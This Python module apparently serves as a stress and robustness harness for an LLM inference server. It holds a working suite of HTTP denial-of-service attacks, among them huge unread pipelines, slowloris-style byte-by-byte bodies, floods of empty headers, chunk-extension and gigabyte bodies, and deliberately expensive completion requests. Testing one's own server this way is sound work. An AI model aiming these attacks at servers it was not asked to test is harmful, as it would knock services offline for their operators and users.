"""Attack a server below its routes: with what one connection may carry, valid or not.

Each attack sends bytes that were made beforehand, so that it costs the attacker next to nothing,
and reads of the answers their statuses alone, which it tells with how the connection ended.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Coroutine, Iterable
from contextlib import suppress
from itertools import cycle, islice, repeat
from typing import Any, TypeVar

_T = TypeVar("_T")
DEAF_S = 4.0  # that a client stays which reads nothing
_LAST_S = 0.2  # in which it then looks at the answers
_STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")
_HOST = b"Host: localhost\r\n"
_CHAT = b"POST /v1/chat/completions HTTP/1.1\r\n" + _HOST
_CHUNKED = _CHAT + b"Transfer-Encoding: chunked\r\n\r\n"
_ASKED = b'{"prompt": "hi", "max_tokens": 1}'
_COMPLETE = b"POST /v1/completions HTTP/1.1\r\n" + _HOST + b"Content-Length: %d\r\n" % len(_ASKED)
_NUM_PIPELINED = 2000
_NUM_VALID = 500


def _get(path: str, lines: bytes = b"", version: bytes = b"1.1") -> bytes:
    return b"GET %s HTTP/%s\r\n%s%s\r\n" % (path.encode(), version, _HOST, lines)


def _completion(**fields: Any) -> bytes:
    body = json.dumps({"max_tokens": 1, **fields}).encode()
    head = b"POST /v1/completions HTTP/1.1\r\n" + _HOST + b"Content-Length: %d\r\n\r\n"
    return head % len(body) + body


METRICS = _get("/metrics") * _NUM_PIPELINED
PATHS = ("/", "/health", "/metrics", "/props", "/slots", "/v1/models", "/v1/responses/x", "/x")
MIXED = b"".join(
    islice(cycle([*map(_get, PATHS), _COMPLETE + b"\r\n" + _ASKED]), _NUM_PIPELINED)
)  # fmt: skip
COMPLETIONS = _completion(prompt="hi") * _NUM_PIPELINED
CHOICES = _completion(prompt="hi", n=16, temperature=1, max_tokens=64) * _NUM_VALID
PROMPTS = b"".join(_completion(prompt=list(range(1000 + i, 1900 + i))) for i in range(_NUM_VALID))
COSTLY = _completion(
    prompt="hi", n=4, max_tokens=32, logprobs=5, temperature=1.5, min_p=0.01, presence_penalty=1,
    logit_bias={str(token): 0.5 for token in range(1000, 1300)}, stop=["zq", "qz", "xj", "jx"],
) * _NUM_VALID  # fmt: skip
UPGRADES = _get("/health", b"Connection: upgrade\r\nUpgrade: websocket\r\n") * _NUM_PIPELINED
EXPECTING = (_COMPLETE + b"Expect: 100-continue\r\n\r\n" + _ASKED) * _NUM_PIPELINED
OLD = _get("/metrics", b"Connection: keep-alive\r\n", b"1.0") * _NUM_PIPELINED
HEADERS = _get("/health", b"a:\r\n" * 15_000) * 20
SINGLE_BYTES = _CHUNKED + b"1\r\n \r\n" * 700_000
UNFINISHED = _CHAT + b"Content-Length: %d\r\n\r\n" % (1 << 20) + b" " * ((1 << 20) - 1)
EXTENSIONS = _CHUNKED + (b"1;" + b"x" * 8000 + b"\r\n \r\n") * 2000


async def within(seconds: float, work: Coroutine[Any, Any, _T]) -> _T:
    """What it returns. Raises TimeoutError; `asyncio.wait_for` may swallow the end of an attack."""
    task = asyncio.ensure_future(work)
    try:
        done, _ = await asyncio.wait({task}, timeout=seconds)
    finally:
        task.cancel()
    if not done:
        raise asyncio.TimeoutError
    return task.result()


def _outcome(statuses: set[str], ended: str) -> str:
    return " ".join([*sorted(statuses), ended])


async def _read_statuses(reader: asyncio.StreamReader, found: set[str]) -> None:
    """Of all answers, until the connection ends."""
    data = b""
    with suppress(ConnectionError):
        while part := await reader.read(1 << 14):
            data = data[-12:] + part  # a status line may be cut in two
            found |= {status.decode() for status in _STATUS.findall(data)}


async def _sent(host: str, port: int, parts: Iterable[bytes], stay_s: float) -> str:
    """How a connection ends that sends these parts, as fast as it may, and stays for a while."""
    reader, writer = await asyncio.open_connection(host, port, limit=1 << 12)
    found: set[str] = set()
    reading = asyncio.ensure_future(_read_statuses(reader, found))

    async def send() -> None:
        with suppress(ConnectionError):
            for part in parts:
                writer.write(part)
                await writer.drain()
        await reading

    try:
        await within(stay_s, send())
    except asyncio.TimeoutError:
        return _outcome(found, "stayed")
    else:
        return _outcome(found, "closed")
    finally:
        reading.cancel()
        writer.transport.abort()


async def _deaf(host: str, port: int, data: bytes) -> str:
    """How a connection ends that sends this and reads nothing until it leaves."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    try:
        with suppress(ConnectionError, asyncio.TimeoutError):
            writer.write(data)
            await within(DEAF_S, writer.drain())
        await asyncio.sleep(DEAF_S)
        ended, found = "closed" if writer.transport.is_closing() else "stayed", set[str]()
        if ended == "stayed":
            writer.transport.resume_reading()  # type: ignore[attr-defined]
            with suppress(asyncio.TimeoutError):
                await within(_LAST_S, _read_statuses(reader, found))
        return _outcome(found, ended)
    finally:
        writer.transport.abort()


async def deaf_metrics(host: str, port: int) -> str:
    """/metrics 2,000 times in one pipeline, its answers unread."""
    return await _deaf(host, port, METRICS)


async def deaf_mixed(host: str, port: int) -> str:
    """Every path in one pipeline, the answers unread."""
    return await _deaf(host, port, MIXED)


async def read_metrics(host: str, port: int) -> str:
    """/metrics 2,000 times in one pipeline, its answers read."""
    return await _sent(host, port, [METRICS], 10 * DEAF_S)


async def many_pipelines(host: str, port: int) -> str:
    """A pipeline among many, its answers unread."""
    return await _deaf(host, port, METRICS)


async def upgrades(host: str, port: int) -> str:
    """Requests for another protocol, in one pipeline."""
    return await _sent(host, port, [UPGRADES], DEAF_S)


async def expecting(host: str, port: int) -> str:
    """Requests that expect to be told to go on, and do so at once, in one pipeline."""
    return await _sent(host, port, [EXPECTING], DEAF_S)


async def completions(host: str, port: int) -> str:
    """Completions of a token, in one pipeline."""
    return await _sent(host, port, [COMPLETIONS], 10 * DEAF_S)


async def many_choices(host: str, port: int) -> str:
    """Completions of sixteen choices each, in one pipeline."""
    return await _sent(host, port, [CHOICES], 10 * DEAF_S)


async def long_prompts(host: str, port: int) -> str:
    """Completions of prompts of 900 tokens that nobody has read before, in one pipeline."""
    return await _sent(host, port, [PROMPTS], 10 * DEAF_S)


async def costly_sampling(host: str, port: int) -> str:
    """Completions whose tokens cost more than others to draw and to tell, in one pipeline."""
    return await _sent(host, port, [COSTLY], 10 * DEAF_S)


async def many_completions(host: str, port: int) -> str:
    """A pipeline of completions among as many as there is room for."""
    return await _sent(host, port, [COMPLETIONS], 10 * DEAF_S)


async def old_keep_alive(host: str, port: int) -> str:
    """HTTP/1.0 that wants to stay, in one pipeline."""
    return await _sent(host, port, [OLD], DEAF_S)


async def many_headers(host: str, port: int) -> str:
    """15,000 empty headers in a request."""
    return await _sent(host, port, [HEADERS], DEAF_S)


async def single_bytes(host: str, port: int) -> str:
    """A body in chunks of one byte."""
    return await _sent(host, port, [SINGLE_BYTES], 10 * DEAF_S)


async def chunk_extensions(host: str, port: int) -> str:
    """A body whose chunks are all extension."""
    return await _sent(host, port, [EXTENSIONS], 10 * DEAF_S)


async def endless_body(host: str, port: int) -> str:
    """A gigabyte for a path that reads nothing."""
    head = _get("/health", b"Content-Length: 1000000000\r\n")
    return await _sent(host, port, [head, *repeat(b" " * (1 << 18), 3800)], 10 * DEAF_S)


async def byte_by_byte(host: str, port: int) -> str:
    """A body of which each byte comes by itself."""
    head = _CHAT + b"Content-Length: 100000\r\n\r\n"

    async def parts(writer: asyncio.StreamWriter) -> None:
        for _ in range(100_000):
            writer.write(b" ")
            await asyncio.sleep(0)

    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(head)
        with suppress(ConnectionError):
            await parts(writer)
            return (await reader.read(1 << 12))[9:12].decode() or "closed"
        return "reset"
    finally:
        writer.transport.abort()


async def half_closed(host: str, port: int) -> str:
    """A pipeline whose client says that it sends no more."""
    reader, writer = await asyncio.open_connection(host, port)
    found: set[str] = set()
    try:
        with suppress(ConnectionError):
            writer.write(METRICS)
            writer.write_eof()
            await within(DEAF_S, _read_statuses(reader, found))
        return _outcome(found, "closed")
    except asyncio.TimeoutError:
        return _outcome(found, "stayed")
    finally:
        writer.transport.abort()


async def unfinished_bodies(host: str, port: int) -> str:
    """A body of nearly a mebibyte, but for its last byte."""
    return await _sent(host, port, [UNFINISHED], 10 * DEAF_S)


async def knocking(host: str, port: int) -> str:
    """Fifty connections that come and go."""
    for _ in range(50):
        _, writer = await asyncio.open_connection(host, port)
        writer.transport.abort()
    return "left"
